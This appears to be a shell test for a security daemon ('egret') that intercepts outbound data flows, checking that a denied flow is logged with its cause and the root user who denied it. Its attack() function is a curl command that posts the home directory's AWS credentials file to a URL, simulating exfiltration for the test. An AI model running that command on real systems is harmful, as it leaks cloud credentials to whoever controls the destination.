# SPDX-License-Identifier: Apache-2.0
TITLE="beside the daemon: the history tells the question, who answered it, and the reader"
FORM=daemon
attack() { curl -s -m $((15 * EGRET_SLOW)) -d @"$HOME/.aws/credentials" "$URL/"; }
check() {
	local id question
	question=$("$EGRET" prompts --json | python3 -c 'import json, sys; print(json.load(sys.stdin)["prompts"][0]["id"])') || return
	"$EGRET" deny "$question" || return
	id=$(told kind=flow verdict=deny "prompt=$question" 'by=uid 0*' within=300) || return
	told kind=taint source=read 'exe=*/curl' -- kind=prompt "prompt=$question" "destination=$SINK4:80" -- \
		kind=answer "prompt=$question" verdict=deny 'by=uid 0*' -- kind=flow "id=$id" || return
	why "$id" role=subject -- role=prompt "prompt=$question" -- role=answer verdict=deny 'by=uid 0*' -- \
		role=cause source=read 'exe=*/curl' 'path=*/.aws/credentials' || return
	"$EGRET" log --kind flow --verdict deny --class aws --exe curl | grep -q "$id" || return
	why_words "$id" | grep 'answered: question'
}
